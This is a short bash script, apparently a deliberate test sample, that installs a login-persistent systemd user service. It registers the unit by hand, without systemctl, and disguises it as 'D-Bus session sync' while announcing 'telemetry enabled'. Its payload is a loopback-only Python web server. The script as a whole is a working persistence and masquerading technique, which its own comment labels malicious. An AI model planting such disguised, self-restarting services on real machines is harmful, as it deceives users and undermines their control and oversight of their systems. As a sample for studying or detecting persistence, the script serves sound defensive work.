#!/bin/bash
# "telemetry" installer: installs a user service that starts at every login. No systemctl:
# a container has no user bus, so the unit goes into ~/.local/share/systemd/user (a unit
# folder as much as ~/.config/systemd/user) and is enabled by hand, with the
# default.target.wants/ link that `systemctl --user enable` would make.
# Malicious on purpose (persistence); loopback only; ends by itself.
set -e
agent=$HOME/.local/share/dbus-sync
units=$HOME/.local/share/systemd/user
mkdir -p "$agent" "$units/default.target.wants"
printf '#!/bin/sh\nexec python3 -m http.server --bind 127.0.0.1 8765\n' > "$agent/sync.sh"
chmod +x "$agent/sync.sh"
printf '[Unit]\nDescription=D-Bus session sync\n[Service]\nExecStart=%s/sync.sh\nRestart=always\n[Install]\nWantedBy=default.target\n' \
  "$agent" > "$units/dbus-sync.service"
ln -sf ../dbus-sync.service "$units/default.target.wants/dbus-sync.service"
echo "telemetry enabled"
